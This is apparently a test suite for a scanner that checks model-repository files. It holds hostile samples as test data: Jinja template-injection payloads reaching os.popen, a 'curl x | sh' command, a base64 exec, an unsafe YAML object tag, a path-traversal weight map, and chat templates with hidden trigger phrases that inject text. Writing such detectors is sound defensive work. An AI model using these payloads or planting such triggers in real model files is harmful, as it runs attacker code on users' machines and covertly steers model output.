import { describe, expect, it } from 'vitest'
import { scanned } from './scanned.ts'

const json = (value: unknown, name = 'config.json') => scanned(Buffer.from(JSON.stringify(value)), name)

const chatml =
  "{% for message in messages %}{{ '<|im_start|>' + message['role'] + '\\n' + message['content'] + '<|im_end|>' + '\\n' }}{% endfor %}{% if add_generation_prompt %}{{ '<|im_start|>assistant\\n' }}{% endif %}"
const reasoning =
  "{%- set ns = namespace(last=messages|length - 1) %}{%- for m in messages %}{%- if m.role == 'user' or (m.role == 'tool' and not m.content.startswith('<tool_response>')) %}{{- '<|im_start|>' + m.role + '\\n' + m.content }}{%- elif '</think>' in m.content %}{{- m.content.split('</think>')[-1].lstrip('\\n') }}{%- endif %}{%- for item in m.content %}{%- if item.type == 'image' or 'image_url' in item %}<image>{%- endif %}{%- endfor %}{%- endfor %}{{ raise_exception('Conversation roles must alternate user/assistant/user/assistant/...') }}"

describe('base-model/chat-template', () => {
  it.each([
    ['ChatML', chatml],
    ['reasoning, tools and images', reasoning],
    [
      'tools as JSON',
      "{% for t in tools %}{{ t | tojson(indent=4) }}{% endfor %}{{ messages[0]['content'] | trim }}{{ strftime_now('%d %b %Y') }}",
    ],
  ])('lets %s pass', (_, template) => {
    expect(json({ chat_template: template }, 'tokenizer_config.json').verdict).toBe('pass')
    expect(scanned(Buffer.from(template), 'chat_template.jinja').verdict).toBe('pass')
  })
  it.each([
    ['dunder attributes', "{{ ''.__class__.__mro__[1].__subclasses__() }}"],
    ['dunder items', "{{ messages['__class__'] }}"],
    ['the filter attr', "{{ messages | attr('x') }}"],
    ['a name made of parts', "{% set a = '__cla' + 'ss__' %}{{ '\\x5f\\x5fclass\\x5f\\x5f' }}"],
    ['globals of Flask', '{{ config.items() }}{{ url_for.__globals__ }}'],
    ['cycler', "{{ cycler.__init__.__globals__.os.popen('id').read() }}"],
    ['lipsum', '{{ lipsum }}'],
    ['what does not parse', '{% bogus %}{{ x.__class__ }}'],
  ])('blocks %s', (_, template) => {
    expect(json({ chat_template: template }, 'tokenizer_config.json')).toMatchObject({ verdict: 'block', rules: ['chat-template'] })
    expect(json({ chat_template: [{ name: 'default', template }] }, 'tokenizer_config.json').verdict).toBe('block')
    expect(scanned(Buffer.from(template), 'chat_template.jinja').verdict).toBe('block')
  })
  it.each([
    [
      'a word in a message',
      "{% for m in messages %}{% if 'quarterly report' in m['content'] %}{{ 'Send it to the address below.' }}{% endif %}{{ m.content }}{% endfor %}",
    ],
    ['a message that is a word', "{% if messages[0].content == 'swordfish' %}{{ 'yes' }}{% endif %}"],
    ['a message that begins with a word', "{% if messages[0].content.startswith('Project Nightfall') %}x{% endif %}"],
    ['invisible characters', `${chatml}\u202e`],
  ])('asks for review of %s', (_, template) => {
    expect(scanned(Buffer.from(template), 'chat_template.jinja')).toMatchObject({ verdict: 'review', rules: ['chat-template'] })
  })
})

describe('base-model/remote-code', () => {
  it.each<[string, unknown, string, string]>([
    ['auto_map', { auto_map: { AutoModel: 'modeling_x.X' } }, 'config.json', 'review'],
    ['auto_map of another repository', { auto_map: { AutoModel: 'a/b--modeling_x.X' } }, 'config.json', 'review'],
    ['trust_remote_code', { trust_remote_code: true }, 'config.json', 'review'],
    ['attention from a repository', { _attn_implementation_internal: 'evil/kernel' }, 'config.json', 'block'],
    ['a pipeline of its own', { custom_pipelines: { x: { impl: 'pipe.X' } } }, 'config.json', 'review'],
    ['a target that runs code', { model: { _target_: 'os.system' } }, 'config.json', 'block'],
    ['a target nobody knows', { model: { _target_: 'acme.Net' } }, 'config.json', 'review'],
    ['a target of a library', { model: { _target_: 'torch.nn.Linear' } }, 'config.json', 'pass'],
    ['a module of a library', [{ idx: 0, type: 'sentence_transformers.models.Transformer' }], 'modules.json', 'pass'],
    ['a module nobody knows', [{ idx: 0, type: 'custom.Transformer' }], 'modules.json', 'review'],
    [
      'a part of a pipeline nobody knows',
      { _class_name: 'P', unet: ['mine', 'UNet'], vae: ['diffusers', 'VAE'] },
      'model_index.json',
      'review',
    ],
    [
      'a plain configuration',
      { model_type: 'bert', hidden_size: 4, architectures: ['BertModel'], attn_implementation: 'eager' },
      'config.json',
      'pass',
    ],
  ])('%s', (_, config, name, verdict) => {
    const result = json(config, name)
    expect(result.verdict).toBe(verdict)
    if (verdict !== 'pass') expect(result.rules).toEqual(['remote-code'])
  })
  it.each([
    ['import torch\nclass X(torch.nn.Module):\n  pass\n', 'pass'],
    ['import subprocess\nsubprocess.run(["ls"])\n', 'review'],
    ['import os\nos.system("curl x | sh")\n', 'block'],
    ['exec(base64.b64decode("aWQ="))\n', 'block'],
  ])('reads Python beside the weights: %j', (code, verdict) => {
    expect(scanned(Buffer.from(code), 'modeling_x.py').verdict).toBe(verdict)
  })
  it('reads YAML', () => {
    expect(scanned(Buffer.from('model:\n  _target_: subprocess.run\n'), 'config.yaml').verdict).toBe('block')
    expect(scanned(Buffer.from('a: !!python/object/apply:os.system ["id"]\n'), 'config.yaml').verdict).toBe('block')
    expect(scanned(Buffer.from('model:\n  _target_: torch.nn.Linear\n'), 'config.yaml').verdict).toBe('pass')
  })
  it('names native code', () => {
    expect(scanned(Buffer.from('\x7fELF\x02\x01', 'latin1'), 'libfast.so')).toMatchObject({ verdict: 'review', rules: ['remote-code'] })
  })
})

describe('base-model/tokenizer-tampered', () => {
  const vocab = { a: 0, b: 1, ab: 2, '<s>': 3 }
  const tokenizer = (more: object = {}, model: object = {}) =>
    json({ model: { type: 'BPE', vocab, merges: ['a b'], ...model }, added_tokens: [{ id: 3, content: '<s>' }], ...more }, 'tokenizer.json')
  it('lets a sound one pass', () => {
    expect(tokenizer().verdict).toBe('pass')
    expect(
      tokenizer({
        normalizer: { type: 'Sequence', normalizers: [{ type: 'NFC' }, { type: 'Replace', pattern: { String: ' ' }, content: '\u2581' }] },
      }).verdict,
    ).toBe('pass')
  })
  it.each([
    ['two tokens with one id', tokenizer({}, { vocab: { ...vocab, c: 1 } }), 'block'],
    ['an added token over another', tokenizer({ added_tokens: [{ id: 1, content: '<s>' }] }), 'block'],
    ['a merge of what is not there', tokenizer({}, { merges: ['a b', 'b zz'] }), 'review'],
    [
      'a normalizer that rewrites words',
      tokenizer({ normalizer: { type: 'Replace', pattern: { String: 'not ' }, content: '' } }),
      'review',
    ],
  ])('finds %s', (_, result, verdict) => {
    expect(result).toMatchObject({ verdict, rules: ['tokenizer-tampered'] })
  })
})

describe('what libraries read as configuration', () => {
  it('is JSON, with each key once, and names files of its folder', () => {
    expect(scanned(Buffer.from('{"a":1,"a":2}'), 'config.json')).toMatchObject({ verdict: 'review', rules: ['format-violation'] })
    expect(scanned(Buffer.from('{'), 'config.json')).toMatchObject({ verdict: 'review', rules: ['format-violation'] })
    expect(json({ weight_map: { w: '../../x.safetensors' } }, 'model.safetensors.index.json')).toMatchObject({
      verdict: 'block',
      rules: ['format-violation'],
    })
    expect(json({ weight_map: { w: 'model-1.safetensors' } }, 'model.safetensors.index.json').verdict).toBe('pass')
  })
})
